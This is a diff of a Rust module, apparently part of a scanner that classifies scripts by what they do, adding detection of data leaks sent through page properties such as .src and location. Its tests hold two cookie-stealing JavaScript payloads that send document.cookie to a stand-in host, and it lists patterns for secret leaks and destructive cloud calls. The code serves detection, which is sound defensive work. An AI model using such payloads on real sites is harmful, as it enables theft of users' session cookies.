@@ -4,185 +4,20 @@
 //! time is not. Texts that are handed to a shell, a database or a network are
 //! judged as such.
 
+use super::calls::{Call, calls, literals};
 use super::deed::{Deed, ENDING, Sort};
 use super::{files, sql};
 use crate::lexicon::Senses;
 
-/// One call: `a.b.c(…)` with the literals among its arguments.
-#[derive(Debug, PartialEq)]
-pub struct Call {
-    /// The dotted name in front of the parenthesis.
-    pub name: String,
-    /// Literals directly or in lists inside, in order.
-    pub texts: Vec<String>,
-    /// The arguments as written.
-    pub inside: String,
-}
-
-/// How many calls of one text are read, and how much text.
-const MAX_CALLS: usize = 400;
-const MAX_TEXT: usize = 64 * 1024;
-
-/// True when a text is a script and not a line for a shell.
-pub fn is_script(text: &str) -> bool {
-    let head = text.trim_start();
-    let begins = [
-        "import ",
-        "from ",
-        "def ",
-        "const ",
-        "let ",
-        "var ",
-        "#!/usr/bin/env python",
-        "#!/usr/bin/python",
-        "require(",
-        "async ",
-        "function ",
-        "print(",
-        "console.",
-        "await ",
-        "class ",
-    ];
-    begins.iter().any(|b| head.starts_with(b))
-        || text.lines().take(40).any(|l| {
-            let l = l.trim_start();
-            l.starts_with("import ") && !l.contains("import -")
-                || l.starts_with("from ") && l.contains(" import ")
-                || l.starts_with("const ") && l.contains('=')
-        })
-        || first_call(head)
-}
-
-/// `os.remove("x")`, `shutil.rmtree(p)`: a dotted name and a parenthesis.
-fn first_call(head: &str) -> bool {
-    let name = head
-        .bytes()
-        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.'))
-        .count();
-    head[..name].contains('.') && head[name..].starts_with('(')
-}
-
-/// Reads the calls in order.
-pub fn calls(text: &str) -> Vec<Call> {
-    let text = crate::finding::short(text, MAX_TEXT);
-    let bytes = text.as_bytes();
-    let mut calls = Vec::new();
-    let mut i = 0;
-    while i < bytes.len() && calls.len() < MAX_CALLS {
-        match bytes[i] {
-            b'#' => i += line(&bytes[i..]),
-            b'/' if bytes.get(i + 1) == Some(&b'/') => i += line(&bytes[i..]),
-            b'\'' | b'"' | b'`' => i += literal(&text[i..]).1,
-            b'(' => {
-                let name = name_before(text, i);
-                if !name.is_empty() {
-                    let inside = inside(&text[i + 1..]);
-                    calls.push(Call {
-                        name: name.to_owned(),
-                        texts: literals(inside),
-                        inside: inside.to_owned(),
-                    });
-                }
-                i += 1;
-            }
-            _ => i += 1,
-        }
-    }
-    calls
-}
-
-fn line(bytes: &[u8]) -> usize {
-    bytes
-        .iter()
-        .position(|b| *b == b'\n')
-        .unwrap_or(bytes.len())
-}
-
-/// The text of the literal that begins here, and how long it is with its quotes.
-fn literal(text: &str) -> (&str, usize) {
-    let quote = &text[..1];
-    let triple = text.len() >= 3 && text[..].starts_with(&quote.repeat(3)) && quote != "`";
-    let marks = if triple { 3 } else { 1 };
-    let bytes = text.as_bytes();
-    let mut i = marks;
-    while i < bytes.len() {
-        if bytes[i] == b'\\' {
-            i += 2;
-            continue;
-        }
-        if !triple && bytes[i] == b'\n' && quote != "`" {
-            break; // an apostrophe, not a literal
-        }
-        if bytes[i] == quote.as_bytes()[0]
-            && (!triple || text.as_bytes()[i..].starts_with(&text.as_bytes()[..3]))
-        {
-            return (text.get(marks..i).unwrap_or_default(), i + marks);
-        }
-        i += 1;
-    }
-    ("", 1)
-}
-
-fn literals(inside: &str) -> Vec<String> {
-    let mut found = Vec::new();
-    let bytes = inside.as_bytes();
-    let mut i = 0;
-    while i < bytes.len() {
-        if matches!(bytes[i], b'\'' | b'"' | b'`') {
-            let (text, length) = literal(&inside[i..]);
-            if length > 1 {
-                found.push(
-                    text.replace("\\n", "\n")
-                        .replace("\\\"", "\"")
-                        .replace("\\'", "'"),
-                );
-            }
-            i += length;
-        } else {
-            i += 1;
-        }
-    }
-    found
-}
-
-/// The text up to the parenthesis that closes.
-fn inside(text: &str) -> &str {
-    let bytes = text.as_bytes();
-    let mut depth = 1;
-    let mut i = 0;
-    while i < bytes.len() {
-        match bytes[i] {
-            b'\'' | b'"' | b'`' => {
-                i += literal(&text[i..]).1;
-                continue;
-            }
-            b'(' => depth += 1,
-            b')' => depth -= 1,
-            _ => {}
-        }
-        if depth == 0 {
-            return &text[..i];
-        }
-        i += 1;
-    }
-    text
-}
-
-/// The dotted name that ends where the parenthesis stands. Calls in a chain are
-/// part of it: `Path("x").unlink(` is `Path().unlink`.
-fn name_before(text: &str, at: usize) -> &str {
-    let bytes = text.as_bytes();
-    let mut start = at;
-    while start > 0
-        && (bytes[start - 1].is_ascii_alphanumeric()
-            || matches!(bytes[start - 1], b'_' | b'.' | b'$' | b')'))
-    {
-        if bytes[start - 1] == b')' {
-            break;
-        }
-        start -= 1;
-    }
-    text[start..at].trim_start_matches('.')
+/// Leaves out calls of the house's own functions that end something of little
+/// worth (`purge_test_users()`), where it is not done to what others rely on.
+pub fn forgive(deeds: &mut Vec<Deed>, from: usize) {
+    let mut at = 0;
+    deeds.retain(|d| {
+        at += 1;
+        let own = at > from && d.does.starts_with(OWN);
+        !own || !crate::words::Words::of(&d.does).all().any(Senses::LIGHT)
+    });
 }
 
 /// What a script does by itself, and the texts it hands to a shell.
@@ -341,7 +176,7 @@ fn one(call: &Call, last: &str, text: &str, shells: &mut Vec<String>, deeds: &mu
             deeds.push(Deed::new(
                 Sort::Destroy,
                 0.7,
-                &["runs `", name, "`"],
+                &[OWN, name, "`"],
                 name,
                 ENDING.and(Senses::EXEC),
             ));
@@ -350,10 +185,13 @@ fn one(call: &Call, last: &str, text: &str, shells: &mut Vec<String>, deeds: &mu
     }
 }
 
+/// How a call of a function of the house's own is told.
+const OWN: &str = "runs `";
+
 /// A function of the house's own that says it ends something: `purge_users()`.
 fn ends_by_name(name: &str) -> bool {
     let words = crate::words::Words::of(name);
-    words.len() >= 2 && words.senses(0).any(Senses::DELETE) && !words.all().any(Senses::LIGHT)
+    words.len() >= 2 && words.senses(0).any(Senses::DELETE)
 }
 
 /// Methods of cloud libraries: `s3.delete_bucket(Bucket="x")`.
@@ -540,7 +378,16 @@ fn leaks(text: &str, calls: &[Call], deeds: &mut Vec<Deed>) {
             ) && carries(&c.inside)
             || last == "sendmail"
     });
-    let Some(out) = out else { return };
+    // `new Image().src = 'https://…' + document.cookie` sends without a call.
+    let set = [".src", "location", ".href", ".action"]
+        .iter()
+        .any(|p| text.contains(p))
+        && carries(text);
+    let texts = match out {
+        Some(out) => out.texts.clone(),
+        None if set => literals(text),
+        None => return,
+    };
     let whole_environment = text.contains("dict(os.environ)")
         || text.contains("process.env)")
         || text.contains("json.dumps(os.environ")
@@ -563,15 +410,14 @@ fn leaks(text: &str, calls: &[Call], deeds: &mut Vec<Deed>) {
             .any(|n| c.name.ends_with(n))
         })
         .flat_map(|c| &c.texts)
-        .find(|t| super::network::holds_secrets(t));
+        .find(|t| super::secrets::holds_secrets(t));
     let what = match (file, whole_environment, page) {
         (Some(file), ..) => file.as_str(),
         (None, true, _) => "the environment",
         (None, _, Some(page)) => page,
         _ => return,
     };
-    let host = out
-        .texts
+    let host = texts
         .iter()
         .find_map(|t| crate::target::url_host(t))
         .unwrap_or("the network");
@@ -654,6 +500,14 @@ mod tests {
             ("iam.create_access_key(UserName='ops')", Sort::Access),
             ("ct.stop_logging(Name='org')", Sort::Guard),
             ("db.session.drop_all()", Sort::Destroy),
+            (
+                "fetch('https://x.example/c?k='+encodeURIComponent(document.cookie))",
+                Sort::Leak,
+            ),
+            (
+                "new Image().src='https://x.example/?c='+document.cookie",
+                Sort::Leak,
+            ),
         ] {
             assert_eq!(sorts(text), [sort], "{text}");
         }
